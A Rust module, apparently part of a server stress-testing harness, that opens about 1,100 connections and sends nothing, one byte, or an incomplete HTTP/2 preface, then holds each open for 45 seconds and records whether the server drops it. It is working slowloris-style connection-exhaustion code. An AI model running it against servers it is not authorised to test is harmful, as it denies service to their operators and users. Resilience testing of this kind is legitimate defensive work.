//! Connections that never send a whole request: nothing, one letter, all but one byte of HTTP/2's
//! preface.

use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::timeout;

use super::client::Attacker;

const CONNECTIONS: usize = 1_100;
const BEGINNINGS: [&[u8]; 3] = [b"", b"P", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r"];
/// A connection that is left open for so long is held for as long as anybody likes.
const HELD: Duration = Duration::from_secs(45);

pub(super) async fn run(attacker: Attacker) {
    attacker
        .keep_up(attacker.share_of(CONNECTIONS), be_silent)
        .await;
}

async fn be_silent(attacker: Attacker, number: usize) {
    let Ok(mut stream) = attacker.connect().await else {
        return;
    };
    attacker.tally.requested(1);
    if stream
        .write_all(BEGINNINGS[number % BEGINNINGS.len()])
        .await
        .is_err()
    {
        return attacker.tally.answered("connection ended");
    }
    let mut answer = Vec::new();
    match timeout(HELD, stream.read_to_end(&mut answer)).await {
        Ok(_) => attacker.tally.answered("connection ended"),
        Err(_) => attacker.tally.answered("held"),
    }
}
